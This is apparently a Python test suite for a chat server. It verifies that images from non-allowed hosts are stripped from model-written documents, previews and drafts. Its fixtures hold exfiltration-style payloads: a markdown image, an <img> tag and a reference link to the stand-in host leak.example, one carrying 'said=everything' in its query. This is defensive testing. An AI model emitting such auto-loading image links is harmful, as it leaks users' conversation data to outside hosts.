"""Images in the texts of documents and asks, which a client would load by itself (BC-134)."""

import json
from typing import Any, Final

import pytest
from pydantic import JsonValue

from parley.v1 import turns_pb2
from parleyd.models.script import Call, Hold, ScriptedMessage, Text, as_message
from parleyd.models.scripted import in_turn
from parleyd.turns.model import ToolOutcome
from tests.contract.rendered import loaded, shown_texts
from tests.end_to_end.answers import markdown
from tests.end_to_end.documents import INVALID, checked, document, repairing, replaced, run
from tests.end_to_end.pressed import ACTIONS, begun, press
from tests.end_to_end.test_block_previews import previews
from tests.end_to_end.trials import Trial, every_way
from tests.server import StartServer

LEAK: Final = "![the loans](https://leak.example/a.png?said=everything)"
OURS: Final = "![us](https://img.books.example/us.png)"
HOSTS: Final = ("img.books.example",)
BLOCKS: Final[tuple[JsonValue, ...]] = (
    {"type": "text", "markdown": f"See {LEAK} and {OURS}\n\n![x][r]\n\n[r]: //leak.example/b"},
    {"type": "callout", "text": f"{LEAK} <img src='https://leak.example/c'>"},
    {"type": "card", "children": [{"type": "details", "title": LEAK, "text": LEAK}]},
)
CLEAN: Final[list[JsonValue]] = [
    {"type": "text", "markdown": f"See the loans and {OURS}\n\nx\n\n"},
    {"type": "callout", "text": "the loans "},
    {"type": "card", "children": [{"type": "details", "title": "the loans", "text": "the loans"}]},
]
DRAFT_ID: Final = "call_draft"
DRAFT: Final[dict[str, JsonValue]] = {
    "prompt": f"Mend the letter {LEAK}",
    "initial": f"# Dear Noor\n\n{LEAK}\n",
    "maxLength": 40,
}
PLAIN: Final = "# Dear Noor\n\nthe loans\n"


def assert_harmless(text: str, hosts: tuple[str, ...] = HOSTS) -> None:
    """Asserts that a stored document has nothing in it that a client would load from elsewhere."""
    assert "leak.example" not in text
    for shown in shown_texts(json.loads(text)):
        assert loaded(shown, hosts) == []


async def test_bc_134_no_text_of_a_reply_has_an_image_from_elsewhere(
    start_server: StartServer,
) -> None:
    said = document(*BLOCKS)
    server = await start_server(in_turn([Text(said)]), blocks=True, blocks_image_hosts=HOSTS)
    noor = await server.person()

    played = await noor.prompt("Show my loans")

    assert played.names == ["started", "text", "blocks", "done"]
    assert json.loads(played.text)["blocks"] == CLEAN
    assert_harmless(played.text)
    found = checked(played).document
    assert found.blocks[0].text.markdown == f"See the loans and {OURS}\n\nx\n\n"
    assert found.blocks[1].callout.text == "the loans "
    [_, reply] = await noor.messages(played.conversation_id)
    assert (reply.text, reply.blocks) == (played.text, found)
    # Another server, and a person who comes back, see no more than that.
    await server.stop()
    again = await start_server(in_turn(), blocks=True, blocks_image_hosts=HOSTS)
    [_, reply] = await (await again.person()).messages(played.conversation_id)
    assert (reply.text, reply.blocks) == (played.text, found)


async def test_bc_134_neither_has_one_that_comes_by_a_single_call(
    start_server: StartServer,
) -> None:
    server = await start_server(in_turn([Text(document(*BLOCKS))]), blocks=True)
    result = await run(await server.person(), "Show my loans")
    assert_harmless(result.text, ())
    assert "books.example" not in result.text


async def test_bc_134_nor_one_that_was_repaired(start_server: StartServer) -> None:
    server = await start_server(
        repairing(in_turn([Text(INVALID)]), [Text(document(*BLOCKS))]),
        blocks=True,
        blocks_repair=True,
        blocks_html=True,
    )
    played = await (await server.person()).prompt("Show my loans")
    assert checked(played).ok
    assert_harmless(replaced(played), ())


async def test_bc_134_nothing_of_it_is_seen_while_a_document_is_written(
    start_server: StartServer,
) -> None:
    said = (
        "v: 1\ndatasets:\n  d: {columns: [{name: c, type: string}], "
        f"rows: [[{json.dumps(LEAK)}]]}}\nblocks:\n"
        + "".join(f"  - {json.dumps(block)}\n" for block in BLOCKS)
        + "  - type: di"
    )
    pick = in_turn([Text(said), Hold("0"), Text("vider\n")])
    server = await start_server(pick, blocks=True, blocks_image_hosts=HOSTS)
    noor = await server.person()
    seen: list[turns_pb2.TurnEvent] = []
    prompt = turns_pb2.PromptInput(text="Show my loans")
    async for event in noor.stream_all(turns_pb2.StreamTurnRequest(prompt=prompt)):
        seen.append(event)
        if event.HasField("blocks_preview"):
            server.model.holds.release("0")

    [preview] = previews(seen)

    assert len(preview.document.blocks) == len(BLOCKS)
    assert preview.document.blocks[1].callout.text == "the loans "
    assert not any("leak.example" in str(event) for event in seen)


async def test_bc_134_the_document_of_a_host_action_has_none_either(
    start_server: StartServer,
) -> None:
    server = await start_server(
        in_turn(), blocks=True, blocks_image_hosts=HOSTS, host_actions=ACTIONS
    )
    noor = await server.person()
    given: dict[str, Any] = {"blocks": {"v": 1, "blocks": [*BLOCKS]}}
    response = await press(noor, await begun(noor), "gives", given)
    assert response.blocks.blocks[1].callout.text == "the loans "
    assert "leak.example" not in str(response)


@every_way
async def test_bc_134_a_draft_has_no_image_from_elsewhere_wherever_it_is_shown(
    start_server: StartServer, *, streaming: bool, restarting: bool
) -> None:
    pick = in_turn([Call("ask_markdown", DRAFT, DRAFT_ID)], [Text("Sent.")])
    trial = Trial(start_server, pick, {}, streaming, restarting)
    own = await trial.begin("Write to Noor")
    noor = await trial.person()

    [pending] = await noor.pending()
    asked = (await noor.conversation(own)).pending_ask
    call = (await noor.messages(own))[-1]
    assert pending.simple == asked.simple
    for shown in (asked.input, call.ask.input):
        assert shown.markdown.initial == PLAIN
        assert shown.prompt == "Mend the letter the loans"
    assert asked.simple.text == "Mend the letter the loans"
    assert "leak.example" not in str((pending, asked, call))
    [approve, _] = asked.simple.buttons
    assert approve.response.accept.markdown.markdown == PLAIN
    await trial.rest()
    # The draft that was shown is the one that an answer is compared with.
    result = await trial.answer(own, DRAFT_ID, markdown(PLAIN, changed=False))

    assert (result.state, result.text) == (turns_pb2.Turn.STATE_COMPLETED, "Sent.")
    said, answered = map(as_message, trial.calls[1].messages[-2:])
    [asked_by_model] = said.parts
    assert isinstance(asked_by_model, Call)
    assert asked_by_model.args == DRAFT
    content: JsonValue = {"markdown": PLAIN, "changed": False}
    envelope: JsonValue = {"action": "accept", "content": content}
    outcome = ToolOutcome(DRAFT_ID, "ask_markdown", value=envelope)
    assert answered == ScriptedMessage("tool", (outcome,))


@pytest.mark.parametrize(
    ("settings", "shown"),
    [
        pytest.param({}, "us", id="without blocks"),
        pytest.param({"blocks": True}, "us", id="without hosts"),
        pytest.param({"blocks": True, "blocks_image_hosts": HOSTS}, OURS, id="with hosts"),
    ],
)
async def test_a_draft_may_have_images_of_the_hosts_that_documents_may(
    start_server: StartServer, settings: dict[str, Any], shown: str
) -> None:
    draft: dict[str, JsonValue] = {"prompt": "Mend it", "initial": OURS}
    server = await start_server(in_turn([Call("ask_markdown", draft, DRAFT_ID)]), **settings)
    played = await (await server.person()).prompt("Write")
    assert played.ask.input.markdown.initial == shown
